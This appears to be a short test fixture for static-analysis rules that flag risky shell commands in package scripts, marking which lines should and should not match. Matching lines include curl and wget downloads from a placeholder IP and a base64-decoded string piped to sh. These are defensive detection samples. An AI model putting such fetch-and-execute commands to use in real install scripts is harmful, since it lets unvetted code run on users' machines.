# ruleid: pkg-sh-network
curl -O http://192.0.2.1/x
# ruleid: pkg-sh-network
wget http://192.0.2.1/x
# ok: pkg-sh-network
echo curl
# ok: pkg-sh-network
ls
# ruleid: pkg-sh-encoded
echo ZWNobyBoaQ== | base64 -d | sh
# ruleid: pkg-sh-encoded
node -e "eval(x)"
# ok: pkg-sh-encoded
base64 -d x > y
# ok: pkg-sh-encoded
node -e "require('./postinstall')"
